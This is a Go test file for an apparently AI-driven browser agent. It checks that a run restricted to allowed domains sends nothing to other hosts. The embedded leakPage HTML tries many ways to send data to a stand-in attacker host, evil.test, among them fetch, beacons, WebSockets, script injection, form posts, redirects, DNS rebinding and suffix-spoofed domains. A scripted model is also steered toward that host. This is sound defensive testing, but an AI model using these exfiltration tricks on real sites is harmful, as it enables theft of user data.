package runs

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/drover-go/drover/runs/browser/chrome/chrometest"
	"github.com/drover-go/drover/runs/model"
	"github.com/drover-go/drover/runs/model/scripted"
)

// leakPage tries every way out of a page that needs no help, and says so when all
// have come to an end; the rest is for the model to be talked into.
const leakPage = `<!doctype html><title>Leaks</title><p id=out>trying</p>
<form action="http://evil.test:PORT/form" method=post target=away><input name=q value=x><button>Send</button></form><iframe name=away width=100 height=30></iframe>
<iframe src="http://evil.test:PORT/frame"></iframe><link rel=stylesheet href="http://evil.test:PORT/style"><link rel=prefetch href="http://evil.test:PORT/prefetch">
<a href="http://evil.test:PORT/link" ping="http://evil.test:PORT/ping">Away</a> <a href="http://good.test:PORT/redirect">Around</a>
<script>
const to = "http://evil.test:PORT/", ended = (start) => new Promise(start);
const ways = ["http://127.0.0.1:PORT/address", "http://rebind.private.test:PRIVATE/rebound", "http://good.test.evil.test:PORT/suffix", "http://notgood.test:PORT/prefix"].map((u) => fetch(u, {mode: "no-cors"}).catch(() => 0));
ways.push(fetch(to + "fetch", {mode: "no-cors"}).catch(() => 0), fetch("/redirect", {mode: "no-cors"}).catch(() => 0));
ways.push(ended((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = to + "image"; }));
ways.push(ended((done) => { const s = new WebSocket("ws://evil.test:PORT/socket"); s.onopen = s.onerror = done; }));
ways.push(ended((done) => { const s = new EventSource(to + "events"); s.onopen = s.onerror = () => { s.close(); done(); }; }));
ways.push(ended((done) => { const s = document.createElement("script"); s.onload = s.onerror = done; s.src = to + "script"; document.head.append(s); }));
navigator.sendBeacon(to + "beacon", "x");
Promise.all(ways).then(() => out.textContent = "all tried");
</script>`

// leakSite is on two addresses and has every name; it notes by which it is asked.
type leakSite struct {
	page  string
	mu    sync.Mutex
	asked []string
}

func openLeakSite(t *testing.T) (_ *leakSite, port string) {
	t.Helper()
	s := &leakSite{}
	public := httptest.NewServer(s)
	t.Cleanup(public.Close)
	listener, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skip("this machine has one loopback address only")
	}
	private := httptest.NewUnstartedServer(s)
	private.Listener.Close()
	private.Listener = listener
	private.Start()
	t.Cleanup(private.Close)
	port = public.URL[strings.LastIndex(public.URL, ":")+1:]
	s.page = strings.NewReplacer("PORT", port, "PRIVATE", fmt.Sprint(listener.Addr().(*net.TCPAddr).Port)).Replace(leakPage)
	return s, port
}

func (s *leakSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.asked = append(s.asked, r.Host[:strings.LastIndex(r.Host, ":")]+r.URL.Path)
	switch r.URL.Path {
	case "/":
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, s.page)
	case "/redirect":
		http.Redirect(w, r, "http://evil.test"+r.Host[strings.LastIndex(r.Host, ":"):]+"/redirected", http.StatusTemporaryRedirect)
	}
}

// Neither a page nor a model that it has talked into something gets data out of the
// domains of a run.
func TestDataStayInTheDomainsOfARun(t *testing.T) {
	t.Parallel()
	site, port := openLeakSite(t)
	press := func(what string) scripted.Turn {
		return scripted.Turn{Do: func(_ context.Context, r model.Request) (model.Response, error) {
			_, rest, _ := strings.Cut(newest(r), what+" [")
			ref, _, _ := strings.Cut(rest, "]")
			return answer("click", map[string]string{"ref": ref})
		}}
	}
	open := func(address string) scripted.Turn {
		return scripted.Call("navigate", map[string]string{"url": address})
	}
	home := "http://good.test:" + port + "/"
	m := scripted.New(
		open(home), scripted.Call("wait", map[string]any{"text": "all tried", "seconds": 15}), press(`button "Send"`),
		open(home), press(`link "Away"`), open(home), press(`link "Around"`),
		open("http://evil.test:"+port+"/?q=x"), open("http://a.good.test:"+port+"/below"), done(true, "", ""),
	)
	w := start(t, setup{browser: chrometest.Provider(t), model: m})
	r := w.do(t, Create{Task: "Look around.", AllowedDomains: []string{"good.test", "rebind.private.test"}})
	all := lines(w.conversation(t, r.ID))
	if r.Status != Completed || !strings.Contains(all[3], `"all tried" is on the page`) {
		t.Fatalf("%s %+v %q", r.Status, r.Cause, all)
	}
	if !slices.ContainsFunc(all, func(l string) bool {
		return strings.Contains(l, "evil.test is refused") && strings.Contains(l, "allowedDomains")
	}) {
		t.Errorf("that an address is refused is not said: %q", all)
	}
	for _, want := range []string{"good.test/", "good.test/redirect", "a.good.test/below"} {
		if !slices.Contains(site.asked, want) {
			t.Errorf("%s was not asked for: %q", want, site.asked)
		}
	}
	for _, asked := range site.asked {
		if !strings.HasPrefix(asked, "good.test/") && !strings.HasPrefix(asked, "a.good.test/") {
			t.Errorf("data went to %s", asked)
		}
	}
}
